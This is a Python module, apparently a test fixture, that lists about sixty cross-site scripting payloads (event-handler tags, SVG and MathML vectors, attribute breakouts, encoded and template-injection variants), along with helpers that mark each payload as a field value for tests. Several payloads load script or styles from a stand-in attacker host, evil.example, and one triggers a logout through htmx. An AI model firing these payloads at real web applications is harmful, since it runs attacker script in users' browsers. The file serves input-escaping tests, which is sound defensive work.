"""Sixty ways to get script into a page."""

from __future__ import annotations

PAYLOADS = [
    # elements that run something, by themselves or when touched
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script/x>", "<script src=//evil.example/x></script>",
    "<script type=module>alert(1)</script>", "<script>alert`1`</script>", "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x:alert(1) onerror=eval(src)>", "<IMG SRC=X ONERROR=alert(1)>",
    "<img src=`x`onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><set onbegin=alert(1) attributename=x>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<math href=javascript:alert(1)>x</math>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>", "<xss id=x tabindex=1 onfocusin=alert(1)>", "<dialog open onclose=alert(1)>",
    "<style>@import'//evil.example/x'</style>", "<link rel=stylesheet href=//evil.example/x>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<form action=javascript:alert(1)><button>x</form>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java&#x09;script:alert(1)'>x</a>", "<template><img src=x onerror=alert(1)></template>",
    # out of an attribute, a title, a text field, a comment, a script
    '" onmouseover=alert(1) x="', "' onmouseover=alert(1) x='", '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "</script><script>alert(1)</script>",
    "--><img src=x onerror=alert(1)>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    # what somebody might decode once more, or take for a template or for htmx
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", r"\u003cimg src=x onerror=alert(1)\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "{{constructor.constructor('alert(1)')()}}",
    "<div hx-get=/logout/ hx-trigger=load>", "<b hx-on::load=alert(1) data-act=reload>x</b>", "{% debug %}${alert(1)}",
]  # fmt: skip
ALL = " ".join(PAYLOADS)
SHORT = [each for each in PAYLOADS if len(each) <= 34]
COMPACT = [each for each in PAYLOADS if len(each) <= 50 and not any(c in each for c in " ,")]
ODD_EMAIL = '"<img/src=x/onerror=alert(1)>"'  # an address like this is a valid one


def mark(name: str, payload: str) -> str:
    """The payload as the value of a field, by whose mark a test sees that the field was on a page at all."""
    return f"Q{name}Q{payload}"
